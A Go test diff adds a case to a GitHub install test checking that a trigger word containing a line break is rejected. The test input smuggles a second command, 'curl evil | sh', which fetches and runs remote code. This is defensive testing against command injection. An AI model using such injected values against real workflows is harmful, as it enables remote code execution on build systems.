@@ -556,6 +556,13 @@ func TestGitHubInstall(t *testing.T) {
 	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "--force") {
 		t.Errorf("a second install: %v\n%s", err, out)
 	}
+	// A line break in a word would end the step's command early.
+	cmd = exec.Command(binary, "github", "install", "--force", "--trigger", "/cl\ncurl evil | sh")
+	cmd.Dir = r.work
+	cmd.Env = r.env()
+	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "line break") {
+		t.Errorf("install with a line break in a word: %v\n%s", err, out)
+	}
 }
 
 // TestGitHubTokenIsNoModelKey runs without a configured model: the job's
